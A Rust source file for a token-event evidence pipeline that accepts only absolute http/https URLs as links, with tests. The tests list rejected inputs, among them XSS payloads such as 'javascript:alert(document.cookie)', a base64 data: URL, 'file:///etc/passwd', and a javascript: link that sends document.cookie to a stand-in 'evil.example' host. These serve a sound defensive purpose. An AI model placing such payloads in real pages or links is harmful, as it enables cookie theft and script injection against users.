//! Which document URLs may be kept as evidence links: `http` and `https`
//! only. Anything else (`javascript:`, `data:`, `vbscript:`, `file:`, a
//! relative or malformed URL) would be a live link in whoever renders the
//! evidence, so it is dropped at ingestion (the evidence is kept, without
//! a URL) and never served.

/// Whether `url` is an absolute `http://` or `https://` URL with a host
/// and no whitespace or control characters.
///
/// ```
/// use tge_events::link::is_web_link;
/// assert!(is_web_link("https://news.example/tge?id=1"));
/// assert!(!is_web_link("javascript:alert(1)"));
/// assert!(!is_web_link(" JAVASCRIPT:alert(1)"));
/// assert!(!is_web_link("data:text/html,<script>x</script>"));
/// ```
pub fn is_web_link(url: &str) -> bool {
    let Some((scheme, rest)) = url.split_once("://") else {
        return false;
    };
    let web = scheme.eq_ignore_ascii_case("http") || scheme.eq_ignore_ascii_case("https");
    let host = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = host.rsplit_once('@').map_or(host, |(_, h)| h);
    web && !host.is_empty()
        && !host.starts_with(':')
        && !url.chars().any(|c| c.is_whitespace() || c.is_control())
}

/// `url` if it may be an evidence link ([`is_web_link`], surrounding
/// whitespace trimmed), else the empty string.
pub fn evidence_url(url: &str) -> String {
    let url = url.trim();
    if is_web_link(url) {
        url.to_string()
    } else {
        String::new()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_http_and_https_links_pass() {
        for kept in [
            "http://127.0.0.1:9/feed.xml",
            "https://news.example/a?b=c#d",
            "HTTPS://News.Example/",
            "https://user@news.example/p",
        ] {
            assert_eq!(evidence_url(kept), kept, "{kept}");
        }
        assert_eq!(
            evidence_url("  https://news.example/x \n"),
            "https://news.example/x"
        );
        for dropped in [
            "javascript:alert(document.cookie)",
            "JavaScript://news.example/%0aalert(1)",
            "java\tscript:alert(1)",
            "vbscript:msgbox(1)",
            "data:text/html;base64,PHNjcmlwdD4=",
            "file:///etc/passwd",
            "ftp://files.example/x",
            "//news.example/protocol-relative",
            "/relative/path",
            "https://",
            "https:///path-only",
            "https://:443/",
            "https://news.example/a\nb",
            "https://news.example/\u{0}",
            "",
        ] {
            assert_eq!(evidence_url(dropped), "", "{dropped:?}");
        }
    }

    #[test]
    fn a_javascript_link_is_not_kept_as_evidence() {
        use crate::plan::{Loaded, synthesize};
        use crate::report::Report;
        let report = |id: &str, url: &str| Report {
            id: id.into(),
            document_id: format!("doc-{id}"),
            source_id: format!("src-{id}"),
            source_kind: "rss".into(),
            url: url.into(),
            project: "Ostrava Chain".into(),
            symbol: Some("OST".into()),
            status: swarm_types::finding::Status::Announced,
            event_date: None,
            date_precision: "unknown".into(),
            confidence: 0.8,
            snippet: "Ostrava Chain announces its token generation event".into(),
            watchlist: false,
            observed_unix_ms: 1_000,
            fingerprint: None,
            duplicate_of: None,
            status_only: false,
            language: None,
        };
        let hostile = report("a", "javascript:fetch('//evil.example/'+document.cookie)");
        let fine = report("b", "https://news.example/ostrava");
        let mut loaded = Loaded::default();
        let (_, changes) = synthesize(&mut loaded, &[&hostile, &fine], 2_000);
        let urls: Vec<&str> = changes
            .evidence
            .iter()
            .map(|e| e.report.url.as_str())
            .collect();
        assert_eq!(
            urls,
            ["", "https://news.example/ostrava"],
            "the evidence stays, its link does not"
        );
    }
}
